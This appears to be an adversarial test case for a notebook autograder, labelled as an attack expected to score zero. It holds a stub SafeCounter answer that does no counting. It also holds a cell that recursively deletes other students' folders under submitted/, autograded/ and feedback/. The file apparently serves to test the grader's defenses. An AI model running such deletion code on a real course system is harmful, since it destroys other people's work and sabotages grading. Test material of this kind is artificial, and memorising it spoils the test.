"""ATTACK: deleting the other students' folders under submitted/ and autograded/
EXPECT: 0
"""
# %% answer
%%exercise safe_counter
import multiprocessing


class SafeCounter:
    """Counts nothing: every point this earns for the exercise is a point stolen."""

    def __init__(self, initial=0, *, ctx=None):
        self._initial = initial

    def increment(self, n=1):
        pass

    @property
    def value(self):
        return self._initial
# %% cell
import glob
import shutil
for folder in glob.glob("{COURSE}/submitted/*") + glob.glob("{COURSE}/autograded/*") + glob.glob("{COURSE}/feedback/*"):
    shutil.rmtree(folder, ignore_errors=True)
print("deleted")
